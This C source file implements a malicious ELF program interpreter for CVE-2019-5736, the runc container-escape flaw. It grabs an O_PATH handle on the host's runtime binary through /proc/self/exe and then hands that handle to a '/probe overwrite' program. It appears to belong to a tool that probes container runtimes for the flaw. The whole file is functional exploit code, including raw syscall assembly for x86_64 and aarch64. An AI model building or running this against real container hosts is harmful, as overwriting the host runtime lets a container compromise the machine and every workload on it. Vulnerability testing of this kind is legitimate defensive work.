/* A hostile program interpreter (PT_INTERP): when the container executes /proc/self/exe and that is
 * a program of the host, the kernel maps it and then runs this, from the container's files. It keeps
 * a handle on the host's program and lets a second program try to write to it (CVE-2019-5736).
 *
 * No library: nothing of the host's program may be touched on the way.
 */
#include <asm/unistd.h>

#define O_PATH 010000000
#define AT_FDCWD (-100)

static long call(long number, long a, long b, long c, long d)
{
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

void _start(void)
{
    char path[] = "/proc/self/fd/0";
    char *argv[] = {"/probe", "overwrite", path, 0};
    char *envp[] = {0};
    long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);

    path[14] = (char)('0' + fd);
    call(__NR_execve, (long)"/probe", (long)argv, (long)envp, 0);
    call(__NR_exit, 99, 0, 0, 0);
}
